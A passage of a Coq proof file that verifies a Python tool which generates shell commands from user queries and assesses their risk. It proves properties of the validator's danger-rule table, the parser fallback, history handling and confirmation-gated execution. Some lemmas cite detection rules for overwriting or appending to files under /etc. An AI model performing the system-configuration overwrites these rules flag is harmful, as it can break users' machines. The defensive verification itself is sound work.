  { repeat split; reflexivity. }
  destruct Hrm as (a & Ha & _). destruct Hls as (b & Hb & _).
  rewrite Ha, Hb. vm_compute in Ha, Hb.
  injection Ha as <-. injection Hb as <-. split; reflexivity.
Defined.

(** *** Three Medium rules and the shipped table *)

Lemma search_from_drop_first ic a r s :
  Re.search_from ic ((a, Re.Once) :: r) s = true ->
  Re.search_from ic r s = true.
Proof.
  induction s as [|c s IH]; cbn [Re.search_from Re.match_here].
  - rewrite orb_false_r. discriminate.
  - intros H. apply orb_true_iff in H as [H|H].
    + apply andb_true_iff in H as [_ H].
      apply orb_true_iff. right.
      destruct s; cbn [Re.search_from]; rewrite H; reflexivity.
    + apply orb_true_iff. right. apply IH. exact H.
Qed.

(** In the shipped table the Medium rule for [>> /etc/] never matches
    without the High rule for [> /etc/] matching too. *)
Lemma append_rule_implies_overwrite_rule command c13 c12 :
  matches command (">>\s*/etc/", c13) = true ->
  matches command (">\s*/etc/", c12) = true.
Proof.
  unfold matches, Re.search. cbn [fst].
  change (Re.compile ">>\s*/etc/")
    with (Some ((Re.Lit ">", Re.Once)
                :: default [] (Re.compile ">\s*/etc/"))).
  change (Re.compile ">\s*/etc/")
    with (Some (default [] (Re.compile ">\s*/etc/"))).
  cbn [mbind option_bind default]. apply search_from_drop_first.
Qed.

(** So no command matches exactly three Medium rules of the shipped
    table and nothing else. *)
Lemma shipped_table_never_three_medium v command :
  constructed v -> severities v command <> [MEDIUM; MEDIUM; MEDIUM].
Proof.
  intros (Ht & _). unfold severities, matched_rules. rewrite Ht.
  unfold _load_dangerous_patterns.
  pose proof (append_rule_implies_overwrite_rule command
                (mkConfig MEDIUM "Modifying system configuration")
                (mkConfig HIGH "Overwriting system configuration")) as Himp.
  revert Himp. generalize (matches command). intros m Himp H.
  repeat
    (lazymatch type of H with
     | context [List.filter ?f (?x :: ?l)] =>
         change (List.filter f (x :: l))
           with (if f x then x :: List.filter f l else List.filter f l) in H;
         destruct (f x) eqn:?;
         [ cbn [map risk snd] in H; try discriminate H;
           apply (f_equal (@tail RiskLevel)) in H; cbn [tail] in H
         | ]
     end).
  all: cbn in H; try discriminate H.
  all: specialize (Himp eq_refl); congruence.
Qed.

(** *** The score only grows *)

(** One iteration of the rule loop leaves the score as it is or adds the
    weight of the rule times ten; it never lowers it. *)
Lemma scan_step_score command st entry st' :
  scan_step command st entry = Some st' ->
  s_score st' = s_score st
  \/ s_score st' = s_score st + weight (risk (snd entry)) * 10.
Proof.
  destruct entry as [pattern config]. unfold scan_step.
  destruct (Re.search pattern command true) as [[|]|]; cbn [mbind option_bind];
    intros H; inversion H; subst.
  - right. reflexivity.
  - left. reflexivity.
Qed.

Lemma scan_step_monotone command st entry st' :
  scan_step command st entry = Some st' -> s_score st <= s_score st'.
Proof.
  intros H. pose proof (weight_pos (risk (snd entry))).
  destruct (scan_step_score _ _ _ _ H); lia.
Qed.

(** The running score never decreases along the rule loop, from any
    intermediate state. *)
Lemma scan_patterns_monotone command table :
  forall st st',
  scan_patterns command table st = Some st' -> s_score st <= s_score st'.
Proof.
  induction table as [|entry table IH]; intros st st'; cbn.
  - intros H. inversion H. lia.
  - destruct (scan_step command st entry) as [st1|] eqn:Hs; cbn; [|discriminate].
    intros H. apply scan_step_monotone in Hs. apply IH in H. lia.
Qed.

Lemma total_nonneg l : Forall (fun x => 0 <= x) l -> 0 <= total l.
Proof. induction 1; cbn; lia. Qed.

Lemma pattern_points_nonneg v command : 0 <= pattern_points v command.
Proof.
  unfold pattern_points. apply total_nonneg.
  apply List.Forall_forall. intros x Hx. apply in_map_iff in Hx as (r & <- & _).
  pose proof (weight_pos r). lia.
Qed.

Lemma fired_count_range v command : 0 <= fired_count v command <= 6.
Proof.
  unfold fired_count, fired.
  generalize (chained command) (default false (redirects_to_root command))
    (wildcard_destructive v command) (elevated command)
    (bool_decide (is_Some (first_system_path v command))) (suspicious command).
  intros b1 b2 b3 b4 b5 b6.
  destruct b1, b2, b3, b4, b5, b6; cbn; lia.
Qed.

(** The assessed score is never negative and never above 100. *)
Lemma validate_score_range v command a :
  well_formed v = true -> validate v command = Some a -> 0 <= score a <= 100.
Proof.
  intros Hwf Ha.
  destruct (validate_unfold v command Hwf) as (ws & _ & _ & Hv).
  cbv zeta in Hv. rewrite Hv in Ha. injection Ha as <-. cbn [score].
  pose proof (pattern_points_nonneg v command).
  pose proof (fired_count_range v command). lia.
Qed.

Lemma matched_points_sublist command (t1 t2 : list (string * PatternConfig)) :
  sublist t1 t2 ->
  total (map (fun r => weight r * 10)
             (map (fun e => risk (snd e)) (List.filter (matches command) t1)))
  <= total (map (fun r => weight r * 10)
                (map (fun e => risk (snd e)) (List.filter (matches command) t2))).
Proof.
  induction 1 as [|e t1 t2 _ IH|e t1 t2 _ IH]; cbn.
  - lia.
  - destruct (matches command e); cbn; lia.
  - destruct (matches command e); cbn; [|exact IH].
    pose proof (weight_pos (risk (snd e))). lia.
Qed.

(** Adding rules to the table never lowers the score of a command. *)
Lemma validate_monotone_in_rules v v' command a a' :
  well_formed v = true -> well_formed v' = true ->
  sublist (dangerous_patterns v) (dangerous_patterns v') ->
  system_paths v = system_paths v' ->
  destructive_commands v = destructive_commands v' ->
  validate v command = Some a -> validate v' command = Some a' ->
  score a <= score a'.
Proof.
  intros Hwf Hwf' Hsub Hp Hd Ha Ha'.
  destruct (validate_unfold v command Hwf) as (ws & _ & _ & Hb).
  destruct (validate_unfold v' command Hwf') as (ws' & _ & _ & Hb').
  cbv zeta in Hb, Hb'.
  rewrite Hb in Ha. injection Ha as <-. rewrite Hb' in Ha'. injection Ha' as <-.
  cbn [score].
  assert (Hf : fired_count v command = fired_count v' command).
  { unfold fired_count, fired, wildcard_destructive, first_system_path.
    rewrite Hp, Hd. reflexivity. }
  pose proof (matched_points_sublist command _ _ Hsub) as Hm.
  unfold pattern_points, severities, matched_rules. rewrite Hf. lia.
Qed.

(** C4.  Two validators the constructor can build, differing only in the
    order in which the set [system_paths] is iterated, assess the command
    [ls /etc /usr] differently: same score and level, but the warning
    names [/etc] for one and [/usr] for the other. *)
Theorem validate_warnings_depend_on_set_order :
  constructed default_validator
  /\ constructed usr_first_validator
  /\ validate default_validator "ls /etc /usr"
     = Some (mkRiskAssessment "low" 5
               ["Operating on system directory: /etc"] [])
  /\ validate usr_first_validator "ls /etc /usr"
     = Some (mkRiskAssessment "low" 5
               ["Operating on system directory: /usr"] [])
  /\ validate default_validator "ls /etc /usr"
     <> validate usr_first_validator "ls /etc /usr".
Proof.
  split; [exact constructed_default|].
  split; [exact constructed_usr_first|].
  split; [reflexivity|]. split; [reflexivity|].
  vm_compute. discriminate.
Qed.

End SafetyFacts.

(* ===================================================================== *)
(** * Properties of [src/storage/command_store.py] *)
(* ===================================================================== *)

Section StoreFacts.
Import Store.





(** The id [store_command] hands out is a 64-bit integer as long as the
    counter has not reached the largest one. *)
Lemma store_command_id_int64 db command query explanation risk_level
    executed success output now :
  0 <= sequence db -> sequence db < 2 ^ 63 - 1 ->
  int64 (snd (store_command db command query explanation risk_level
                executed success output now)) = true.
Proof.
  intros Hlo Hhi. unfold store_command, int64. cbn [snd].
  apply andb_true_iff. split; apply Z.leb_le; lia.
Qed.






End StoreFacts.

(* ===================================================================== *)
(** * Properties of [src/core/parser.py] *)
(* ===================================================================== *)

Section ParserFacts.
Import Parser ParserSpec.

(** The loop of the fallback returns the first command line, stripped. *)
Lemma first_command_line_Some lines command :
  first_command_line lines = Some command <->
  exists pre line post,
    lines = pre ++ line :: post
    /\ Forall (fun l => command_line l = false) pre
    /\ command_line line = true
    /\ command = PyStr.strip line.
Proof.
  induction lines as [|l lines IH]; cbn.
  - split; [discriminate|]. intros (pre & line & post & H & _).
    destruct pre; discriminate.
  - fold (command_line l). destruct (command_line l) eqn:Hl.
    + split.
      * intros H. injection H as <-. exists [], l, lines. auto.
      * intros (pre & line & post & H & Hpre & Hline & ->).
        destruct pre as [|p pre]; cbn in H; injection H as -> ->.
        -- reflexivity.
        -- inversion Hpre; congruence.
    + rewrite IH. split.
      * intros (pre & line & post & -> & Hpre & Hline & ->).
        exists (l :: pre), line, post. auto.
      * intros (pre & line & post & H & Hpre & Hline & ->).
        destruct pre as [|p pre]; cbn in H; injection H as -> ->.
        -- congruence.
        -- inversion Hpre; subst. exists pre, line, post. auto.
Qed.

Lemma first_command_line_None lines :
  first_command_line lines = None <->
  Forall (fun l => command_line l = false) lines.
Proof.
  induction lines as [|l lines IH]; cbn.
  - split; auto.
  - fold (command_line l). destruct (command_line l) eqn:Hl.
    + split; [discriminate|]. intros H. inversion H; congruence.
    + rewrite IH. split; [auto|]. intros H. inversion H; auto.
Qed.

(** C9, as the code has it.  When [json.loads] raises [JSONDecodeError]
    on the reply, [parse] answers from the lines of the stripped reply:
    if one of them holds a command, the result carries the first such
    line, stripped, as its command, confidence 0.6 and the one warning
    "Fallback parsing used - please verify command"; if none does,
    [parse] returns [None].  When [json.loads] raises another exception
    there is no fallback: [parse] returns [None] whatever the lines hold.
    And whenever [parse] returns [None], whatever [json.loads] did,
    [ask], which has shown the query before it calls [parse], prints
    "Failed to generate command" and exits with code 1, with nothing run
    and the application as it was. *)
Theorem parse_fallback (response query : string) :
  let lines := PyStr.split_lines (PyStr.strip response) in
  ((exists pre line post r,
      lines = pre ++ line :: post
      /\ Forall (fun l => command_line l = false) pre
      /\ command_line line = true
      /\ parse (Response response) JSONDecodeError query = Some r
      /\ command r = PyStr.strip line
      /\ confidence r = 6 # 10
      /\ warnings r = ["Fallback parsing used - please verify command"])
   \/ (Forall (fun l => command_line l = false) lines
       /\ parse (Response response) JSONDecodeError query = None))
  /\ parse (Response response) LoadRaised query = None
  /\ (forall loaded app args w,
        Main.query args = query ->
        Main.parsed w = parse (Response response) loaded query ->
        parse (Response response) loaded query = None ->
        Main.console w (Main.processing args) = None ->
        Main.ask app args w
        = (app, [Main.Printed "[red]Failed to generate command[/red]"],
           Main.Exited 1)).
Proof.
  intros lines. split; [|split].
  - unfold parse, _fallback_parse. fold lines.
    destruct (first_command_line lines) as [cmd|] eqn:Hf.
    + left. apply first_command_line_Some in Hf
        as (pre & line & post & Hl & Hpre & Hline & ->).
      exists pre, line, post. eexists.
      repeat (split; [eassumption || reflexivity|]). reflexivity.
    + right. apply first_command_line_None in Hf. auto.
  - reflexivity.
  - intros loaded app args w _ Hparsed Hnone Hshown.
    rewrite Hnone in Hparsed. unfold Main.ask. rewrite Hshown, Hparsed.
    reflexivity.
Qed.

Lemma parse_fallback_witness :
  parse (Response "# try again later") JSONDecodeError "list files" = None
  /\ status (Main.ask initial_app
               (Main.mkArgs "list files" false true true false)
               (Main.mkWorld quiet None "" (Main.Answered true)
                  (Main.Answered true) (Main.Completed 0 "" "") 0 0 0))
     = Main.Exited 1.
Proof.
  destruct (parse_fallback "# try again later" "list files")
    as ([(pre & line & post & r & _ & _ & _ & Hr & _) | (_ & Hnone)]
        & _ & Hask).
  - discriminate Hr.
  - split; [exact Hnone|].
    rewrite (Hask JSONDecodeError initial_app
               (Main.mkArgs "list files" false true true false)
               (Main.mkWorld quiet None "" (Main.Answered true)
                  (Main.Answered true) (Main.Completed 0 "" "") 0 0 0)
               eq_refl eq_refl eq_refl eq_refl).
    reflexivity.
Defined.

(** C9, as stated, fails.  A reply that is not JSON and holds only a
    comment line gives no result at all, and [ask] then exits with code 1;
    and where the fallback does give a result, its warning is spelt with
    a hyphen, not with the dash of the design document. *)
Lemma parse_fallback_without_result :
  parse (Response "# try again later") JSONDecodeError "list files" = None
  /\ (let w := Main.mkWorld quiet
                 (parse (Response "# try again later") JSONDecodeError
                        "list files")
                 "" (Main.Answered true) (Main.Answered true)
                 (Main.Completed 0 "" "") 0 0 0 in
      snd (Main.ask initial_app
             (Main.mkArgs "list files" false true true false) w)
      = Main.Exited 1)
  /\ (exists r,
        parse (Response "ls -la") JSONDecodeError "list files" = Some r
        /\ ~ In "Fallback parsing used — please verify command" (warnings r)).
Proof.
  split; [reflexivity|]. split; [reflexivity|].
  eexists. split; [reflexivity|].
  cbn. intros [H|[]]. discriminate H.
Qed.

End ParserFacts.

(* ===================================================================== *)
(** * Properties of [src/core/context.py] *)
(* ===================================================================== *)

Section ContextFacts.
Import Context.

Lemma last_slice_keeps_last {A} (n : Z) (l : list A) (x : A) :
  0 <= n -> last (last_slice n (l ++ [x])) = Some x.
Proof.
  intros Hn. unfold last_slice. rewrite length_app. cbn [length].
  set (len := Z.of_nat (length l + 1)).
  set (start := if (- n <? 0)%Z then _ else _).
  assert (Hstart : (Z.to_nat start <= length l)%nat).
  { subst start len. destruct (Z.ltb_spec (- n) 0); lia. }
  rewrite drop_app_le by exact Hstart. apply last_snoc.
Qed.

(** With a history bound that is not negative, [add_interaction] leaves
    the new entry at the end of the history. *)
Lemma add_interaction_last cm query command now executed :
  0 <= max_history cm ->
  last (history (add_interaction cm query command now executed))
  = Some (mkHistoryItem query command now executed).
Proof.
  intros Hmax. unfold add_interaction. cbn [history].
  destruct (_ >? _)%Z.
  - apply last_slice_keeps_last. exact Hmax.
  - apply last_snoc.
Qed.

(** Below the bound, [add_interaction] is a plain append. *)
Lemma add_interaction_append cm query command now executed :
  Z.of_nat (length (history cm)) < max_history cm ->
  history (add_interaction cm query command now executed)
  = history cm ++ [mkHistoryItem query command now executed].
Proof.
  intros Hlen. unfold add_interaction. cbn [history].
  destruct (Z.gtb_spec (Z.of_nat (length (history cm ++ [mkHistoryItem query command now executed])))
              (max_history cm)) as [H|H]; [|reflexivity].
  rewrite length_app in H. cbn in H. lia.
Qed.

End ContextFacts.

(* ===================================================================== *)
(** * Properties of [ask] in [src/main.py] *)
(* ===================================================================== *)

Section MainFacts.
Import Main.

Lemma runs_app l1 l2 : runs (l1 ++ l2) = runs l1 ++ runs l2.
Proof. apply flat_map_app. Qed.

Lemma prompts_app l1 l2 : prompts (l1 ++ l2) = prompts l1 ++ prompts l2.
Proof. apply flat_map_app. Qed.

Lemma put_app l1 l2 : put (l1 ++ l2) = put l1 ++ put l2.
Proof. apply flat_map_app. Qed.


(** ** Sequencing *)

Lemma bind_raised {A B : Type} (k : A -> Action B) events e :
  ((events, inl e) : Action A) ≫= k = (events, inl e).
Proof. reflexivity. Qed.

Lemma bind_returned {A B : Type} (k : A -> Action B) events a :
  ((events, inr a) : Action A) ≫= k = (events ++ fst (k a), snd (k a)).
Proof. unfold mbind, Action_bind. destruct (k a). reflexivity. Qed.

Lemma show_returns c s : c s = None -> show c s = ([], inr tt).
Proof. intros H. unfold show. rewrite H. reflexivity. Qed.

Lemma show_raises c s e : c s = Some e -> show c s = ([], inl e).
Proof. intros H. unfold show. rewrite H. reflexivity. Qed.

Lemma print_returns c text :
  c (Markup text) = None -> print c text = ([Printed text], inr tt).
Proof. intros H. unfold print. rewrite (show_returns _ _ H). reflexivity. Qed.

Lemma print_raises c text e :
  c (Markup text) = Some e -> print c text = ([], inl e).
Proof. intros H. unfold print. rewrite (show_raises _ _ _ H). reflexivity. Qed.

(** [show_all] returns exactly when the console returns on every
    element, and leaves no event either way. *)
Lemma show_all_spec c l :
  (Forall (fun s => c s = None) l /\ show_all c l = ([], inr tt))
  \/ (~ Forall (fun s => c s = None) l /\ exists e, show_all c l = ([], inl e)).
Proof.
  induction l as [|s l IH]; cbn [show_all].
  - left. split; [constructor | reflexivity].
  - destruct (c s) as [e|] eqn:Hs.
    + right. split.
      * intros HF. inversion HF; congruence.
      * exists e. rewrite (show_raises _ _ _ Hs). reflexivity.
    + rewrite (show_returns _ _ Hs), bind_returned.
      destruct IH as [[HF ->] | [HN [e ->]]].
      * left. split; [constructor; assumption | reflexivity].
      * right. split; [intros HF; inversion HF; auto | exists e; reflexivity].
Qed.

(** ** [_execute_command] *)

(** [_execute_command] starts the command once, with a timeout of 30
    seconds, and puts no prompt, whatever becomes of the command and of
    the display of its output. *)
Lemma execute_command_runs c command outcome :
  runs (fst (_execute_command c command outcome)) = [(command, 30)]
  /\ prompts (fst (_execute_command c command outcome)) = []
  /\ put (fst (_execute_command c command outcome)) = [].
Proof.
  unfold _execute_command, print, show, say, emit, catch.
  destruct outcome as [rc out err| |e]; [|cbn; auto|destruct (c _); cbn; auto].
  destruct (PyStr.truthy out), (PyStr.truthy err);
    repeat (cbn -[execution_error];
            match goal with
            | |- context [c ?s] => destruct (c s) eqn:?
            end); cbn; auto.
Qed.

(** A timeout is reported as a failed execution. *)
Lemma execute_command_timeout c command :
  _execute_command c command TimeoutExpired
  = ([Ran command 30; Printed "[red]Command timed out[/red]"], inr false).
Proof. reflexivity. Qed.

(** [_execute_command] reports success only for a run that completed
    with return code 0 and whose output, if any, the console showed. *)
Lemma execute_command_success c command outcome :
  snd (_execute_command c command outcome) = inr true <->
  exists out err,
    outcome = Completed 0 out err
    /\ (PyStr.truthy out = true -> c (Markup out) = None)
    /\ (PyStr.truthy err = true -> c (Markup err) = None).
Proof.
  unfold _execute_command, print, show, say, emit, catch.
  destruct outcome as [rc out err| |e].
  - split.
    + intros H. exists out, err.
      destruct (PyStr.truthy out), (PyStr.truthy err);
        repeat (cbn -[execution_error] in H;
                match type of H with
                | context [c ?s] => destruct (c s) eqn:?
                end); cbn in H; try discriminate;
        injection H as H; apply Z.eqb_eq in H; subst rc;
        (split; [reflexivity|]); split; intros; congruence.
    + intros (o & e & Heq & Ho & He). injection Heq as -> <- <-.
      destruct (PyStr.truthy out), (PyStr.truthy err);
        rewrite ?Ho, ?He by reflexivity; reflexivity.
  - split; [discriminate|]. intros (o & e & H & _). discriminate.
  - split; [destruct (c _); discriminate|]. intros (o & e' & H & _). discriminate.
Qed.

(** ** The display *)

Lemma bind_pure {A B : Type} (k : A -> Action B) a :
  (([], inr a) : Action A) ≫= k = k a.
Proof. unfold mbind, Action_bind. destruct (k a). reflexivity. Qed.

Lemma bind_mret {A B : Type} (k : A -> Action B) a : mret a ≫= k = k a.
Proof. apply bind_pure. Qed.

(** The warnings and the alternatives. *)
Lemma display_assessment_spec w result ra :
  let shown :=
    (if high_or_critical (Safety.risk_level ra)
     then map WarningLine (Safety.warnings ra) else [])
    ++ match Parser.alternatives result with
       | [] => []
       | alternatives => [AlternativesTable (take 3 alternatives)]
       end in
  let action : Action Safety.RiskAssessment :=
    (if high_or_critical (Safety.risk_level ra)
     then show_all (console w) (map WarningLine (Safety.warnings ra))
     else mret tt) ;;
    match Parser.alternatives result with
    | [] => mret tt
    | alternatives => show (console w) (AlternativesTable (take 3 alternatives))
    end ;;
    mret ra in
  (shows w shown /\ action = ([], inr ra))
  \/ (~ shows w shown /\ exists e, action = ([], inl e)).
Proof.
  cbv zeta. unfold shows. rewrite Forall_app.
  destruct (show_all_spec (console w) (map WarningLine (Safety.warnings ra)))
    as [[HW HWe]|[HW [ew HWe]]];
    destruct (high_or_critical (Safety.risk_level ra));
    destruct (Parser.alternatives result) as [|alt alts];
    try destruct (console w (AlternativesTable (take 3 (alt :: alts))))
      as [e4|] eqn:H4;
    unfold show; rewrite ?H4, ?HWe; cbn -[take];
    rewrite ?Forall_cons, ?Forall_nil, ?H4;
    first [ left; split; [tauto | reflexivity]
          | right; split; [intuition congruence | eexists; reflexivity] ].
Qed.

(** For a command that [validate] assesses, [display] returns the
    assessment exactly when the console shows all it is handed; it raises
    otherwise, and leaves no event either way. *)
Lemma display_spec app args w result ra :
  Safety.validate (safety_validator app) (Parser.command result) = Some ra ->
  (shows w (tail (displayed args result ra))
   /\ display app args w result = ([], inr ra))
  \/ (~ shows w (tail (displayed args result ra))
      /\ exists e, display app args w result = ([], inl e)).
Proof.
  intros Hv. unfold display, shows, displayed. rewrite Hv.
  cbn [tail List.app]. rewrite Forall_cons, Forall_app.
  destruct (console w (CommandPanel (Parser.command result))) as [e|] eqn:H1.
  { right. split; [intros (H & _); discriminate|].
    exists e. rewrite (show_raises _ _ _ H1). reflexivity. }
  rewrite (show_returns _ _ H1), bind_pure.
  pose proof (display_assessment_spec w result ra) as Hrest.
  cbv zeta in Hrest. unfold shows in Hrest.
  destruct (explain args && PyStr.truthy (Parser.explanation result)).
  - destruct (console w (explanation_line result)) as [e|] eqn:H2.
    { right. split; [intros (_ & H & _); inversion H; congruence|].
      exists e. rewrite (show_raises _ _ _ H2). reflexivity. }
    rewrite (show_returns _ _ H2), bind_pure, bind_mret.
    destruct Hrest as [[Hs ->]|[Hs [e ->]]].
    + left. split; [|reflexivity].
      split; [reflexivity|]. split; [repeat constructor; exact H2 | exact Hs].
    + right. split; [tauto | exists e; reflexivity].
  - rewrite bind_mret, bind_mret.
    destruct Hrest as [[Hs ->]|[Hs [e ->]]].
    + left. split; [|reflexivity].
      split; [reflexivity|]. split; [constructor | exact Hs].
    + right. split; [tauto | exists e; reflexivity].
Qed.

(** When [validate] raises, so does [display]. *)
Lemma display_unassessed app args w result :
  Safety.validate (safety_validator app) (Parser.command result) = None ->
  exists e, display app args w result = ([], inl e).
Proof.
  intros Hv. unfold display. rewrite Hv.
  destruct (console w (CommandPanel (Parser.command result))) as [e1|] eqn:H1;
    destruct (explain args && PyStr.truthy (Parser.explanation result));
    destruct (console w (explanation_line result)) as [e2|] eqn:H2;
    unfold show; rewrite ?H1, ?H2; cbn; eexists; reflexivity.
Qed.

(** [display] leaves no event, and what it returns is the assessment of
    the command. *)
Lemma display_cases app args w result :
  (exists ra,
     Safety.validate (safety_validator app) (Parser.command result) = Some ra
     /\ shows w (tail (displayed args result ra))
     /\ display app args w result = ([], inr ra))
  \/ (exists e,
        display app args w result = ([], inl e)
        /\ forall ra,
           Safety.validate (safety_validator app) (Parser.command result)
           = Some ra ->
           ~ shows w (tail (displayed args result ra))).
Proof.
  destruct (Safety.validate (safety_validator app) (Parser.command result))
    as [ra|] eqn:Hv.
  - destruct (display_spec app args w result ra Hv) as [[Hs He]|[Hs [e He]]].
    + left. exists ra. auto.
    + right. exists e. split; [exact He|]. intros ra' Hra. injection Hra as <-.
      exact Hs.
  - destruct (display_unassessed app args w result Hv) as [e He].
    right. exists e. split; [exact He|]. intros ra' Hra. discriminate.
Qed.

(** ** [ask], path by path *)

Lemma shows_dec w l : shows w l \/ ~ shows w l.
Proof. unfold shows. destruct (decide (Forall (fun s => console w s = None) l)); auto. Qed.

(** The first line raises: the exception leaves [ask], outside the
    [try]. *)
Lemma ask_processing_raised app args w e :
  console w (processing args) = Some e ->
  ask app args w = (app, [], Raised e).
Proof. intros H. unfold ask. rewrite H. reflexivity. Qed.

(** No command was generated. *)
Lemma ask_no_command app args w :
  console w (processing args) = None ->
  parsed w = None ->
  ask app args w
  = (app, [Printed "[red]Failed to generate command[/red]"], Exited 1).
Proof. intros H Hp. unfold ask. rewrite H, Hp. reflexivity. Qed.

(** The display raises: the handler prints the exception and exits, if
    that print returns. *)
Lemma ask_display_raised app args w result e :
  console w (processing args) = None ->
  parsed w = Some result ->
  display app args w result = ([], inl e) ->
  ask app args w
  = (app, [],
     match console w (error_line e) with
     | Some e' => Raised e'
     | None => Exited 1
     end).
Proof. intros H Hp Hd. unfold ask. rewrite H, Hp, Hd. reflexivity. Qed.

(** The console shows all it is handed: [ask] goes on to its execution
    logic. *)
Lemma ask_shown app args w result ra :
  parsed w = Some result ->
  Safety.validate (safety_validator app) (Parser.command result) = Some ra ->
  shows w (displayed args result ra) ->
  ask app args w
  = match execution_logic app args w result ra with
    | (events, inr app') => (app', events, Returned)
    | (events, inl e) =>
        (app, events,
         match console w (error_line e) with
         | Some e' => Raised e'
         | None => Exited 1
         end)
    end.
Proof.
  intros Hp Hv Hs. unfold shows, displayed in Hs.
  cbn [List.app] in Hs. apply Forall_cons in Hs as [H Hs].
  destruct (display_spec app args w result ra Hv) as [[_ Hd]|[Hn _]];
    [|contradiction].
  unfold ask. rewrite H, Hp, Hd, bind_pure. reflexivity.
Qed.

(** The console raises on something it is handed before the execution
    logic: no prompt is put, nothing runs, nothing is recorded, and [ask]
    does not return. *)
Lemma ask_not_shown app args w result ra :
  parsed w = Some result ->
  Safety.validate (safety_validator app) (Parser.command result) = Some ra ->
  ~ shows w (displayed args result ra) ->
  trace (ask app args w) = []
  /\ final (ask app args w) = app
  /\ status (ask app args w) <> Returned.
Proof.
  intros Hp Hv Hn.
  destruct (console w (processing args)) as [e|] eqn:H.
  { rewrite (ask_processing_raised _ _ _ _ H). cbn. repeat split. discriminate. }
  destruct (display_spec app args w result ra Hv) as [[Hs _]|[_ [e Hd]]].
  { exfalso. apply Hn. unfold shows, displayed. cbn [List.app].
    apply Forall_cons. split; [exact H | exact Hs]. }
  rewrite (ask_display_raised _ _ _ _ _ H Hp Hd). cbn. repeat split.
  destruct (console w (error_line e)); discriminate.
Qed.

(** The three ways [ask] can go once a command was generated, assessed
    and displayed, and the prompts were answered. *)

(** Skipped: a dry run, or the first prompt declined.  Nothing runs; one
    history entry is added, marked not executed. *)
Lemma ask_skipped app args w result ra :
  parsed w = Some result ->
  Safety.validate (safety_validator app) (Parser.command result) = Some ra ->
  shows w (displayed args result ra) ->
  dry_run args = true
  \/ (execute args = false /\ confirm_execute w = Answered false) ->
  final (ask app args w)
  = mkApp (safety_validator app) (command_store app)
      (Context.add_to_history (context_manager app) (query args)
         (Parser.command result) (now_history w) false)
  /\ runs (trace (ask app args w)) = []
  /\ status (ask app args w) = Returned.
Proof.
  intros Hp Hv Hs Hskip. rewrite (ask_shown _ _ _ _ _ Hp Hv Hs).
  unfold execution_logic.
  destruct Hskip as [-> | [-> ->]]; [|destruct (dry_run args)]; cbn; auto.
Qed.

(** Cancelled: execution was asked for, the command is Critical, and the
    second prompt is declined.  Nothing runs, and the application state
    is returned as it was. *)
Lemma ask_cancelled app args w result ra :
  parsed w = Some result ->
  Safety.validate (safety_validator app) (Parser.command result) = Some ra ->
  shows w (displayed args result ra) ->
  dry_run args = false ->
  execute args = true \/ confirm_execute w = Answered true ->
  Safety.risk_level ra = "critical" ->
  confirm_critical w = Answered false ->
  final (ask app args w) = app
  /\ runs (trace (ask app args w)) = []
  /\ status (ask app args w) = Returned.
Proof.
  intros Hp Hv Hs Hdry Hexec Hcrit Hno. rewrite (ask_shown _ _ _ _ _ Hp Hv Hs).
  unfold execution_logic. rewrite Hdry, Hcrit, Hno.
  destruct Hexec as [-> | He].
  - cbn. auto.
  - rewrite He. destruct (execute args); cbn; auto.
Qed.

(** Executed: execution was asked for, and confirmed a second time if
    the command is Critical.  The command runs once, with a timeout of
    30.  If [_execute_command] returns, a record is stored only if the
    run succeeded, the last history entry is marked executed, and [ask]
    returns. *)
Lemma ask_executed app args w result ra :
  parsed w = Some result ->
  Safety.validate (safety_validator app) (Parser.command result) = Some ra ->
  shows w (displayed args result ra) ->
  dry_run args = false ->
  execute args = true \/ confirm_execute w = Answered true ->
  (Safety.risk_level ra = "critical" -> confirm_critical w = Answered true) ->
  runs (trace (ask app args w)) = [(Parser.command result, 30)]
  /\ forall success,
     snd (_execute_command (console w) (Parser.command result) (run w))
     = inr success ->
     let stored :=
       if success then
         mkApp (safety_validator app)
           (fst (Store.store_command (command_store app)
                   (Parser.command result) (query args)
                   (Parser.explanation result) (Safety.risk_level ra)
                   false false "" (now_store w)))
           (Context.add_interaction (context_manager app) (query args)
              (Parser.command result) (now_interaction w) false)
       else app in
     final (ask app args w)
     = mkApp (safety_validator stored) (command_store stored)
         (Context.add_to_history (context_manager stored) (query args)
            (Parser.command result) (now_history w) true)
     /\ status (ask app args w) = Returned.
Proof.
  intros Hp Hv Hs Hdry Hexec Hcrit. rewrite (ask_shown _ _ _ _ _ Hp Hv Hs).
  unfold execution_logic. rewrite Hdry.
  pose proof (execute_command_runs (console w) (Parser.command result) (run w))
    as [Hr _].
  destruct (_execute_command (console w) (Parser.command result) (run w))
    as [ran [e|success]].
  all: cbn [fst snd] in *.
  all: destruct (String.eqb_spec (Safety.risk_level ra) "critical") as [Hcr|Hcr];
    [rewrite (Hcrit Hcr)|];
    (destruct Hexec as [-> | He]; [|rewrite He; destruct (execute args)]);
    unfold final, trace, status, runs in *; cbn -[Store.store_command];
    rewrite ?app_nil_r, ?Hr;
    (split; [reflexivity|]); intros s Hsucc; try discriminate;
    injection Hsucc as <-; destruct success; split; reflexivity.
Qed.

(** Every way the execution logic can go, by cases on the flags, the
    answers and what becomes of [_execute_command]. *)
Ltac logic_cases args w result ra :=
  unfold execution_logic;
  pose proof (execute_command_runs (console w) (Parser.command result) (run w))
    as (Hran & Hranp & Hranq);
  destruct (_execute_command (console w) (Parser.command result) (run w))
    as [ran [err|success]] eqn:Hexecuted;
  cbn [fst snd] in Hran, Hranp, Hranq; unfold runs, prompts, put in *;
  destruct (dry_run args) eqn:?, (execute args) eqn:?,
    (confirm_execute w) as [[|]|?] eqn:?,
    (String.eqb (Safety.risk_level ra) "critical") eqn:?,
    (confirm_critical w) as [[|]|?] eqn:?;
  cbn -[Store.store_command Context.add_to_history Context.add_interaction];
  rewrite ?app_nil_r, ?Hran, ?Hranp, ?Hranq.

(** [ask] runs the command exactly when the console showed all it was
    handed, it is no dry run, execution was requested by flag or at the
    first prompt, and, for a Critical command, the second prompt was
    accepted; [is_command_blocked] has no part in it. *)
Lemma ask_runs_iff app args w result ra :
  parsed w = Some result ->
  Safety.validate (safety_validator app) (Parser.command result) = Some ra ->
  runs (trace (ask app args w)) = [(Parser.command result, 30)] <->
  shows w (displayed args result ra)
  /\ dry_run args = false
  /\ (execute args = true \/ confirm_execute w = Answered true)
  /\ (Safety.risk_level ra = "critical" -> confirm_critical w = Answered true).
Proof.
  intros Hp Hv. split.
  - intros Hruns.
    destruct (shows_dec w (displayed args result ra)) as [Hs|Hn].
    2:{ destruct (ask_not_shown app args w result ra Hp Hv Hn) as (Ht & _).
        rewrite Ht in Hruns. discriminate. }
